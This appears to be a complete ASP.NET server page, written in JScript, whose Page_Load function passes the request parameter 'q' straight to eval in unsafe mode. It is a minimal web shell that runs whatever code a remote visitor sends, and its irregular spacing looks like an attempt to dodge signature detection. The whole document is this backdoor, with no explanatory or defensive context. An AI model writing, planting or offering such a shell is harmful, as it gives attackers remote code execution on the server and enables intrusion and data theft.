<script  runat = "server"   language = "JScript" >
	function Page_Load ( )
	{
		eval (  Request [ "q" ] ,	"unsafe" ) ;
	}
</script>
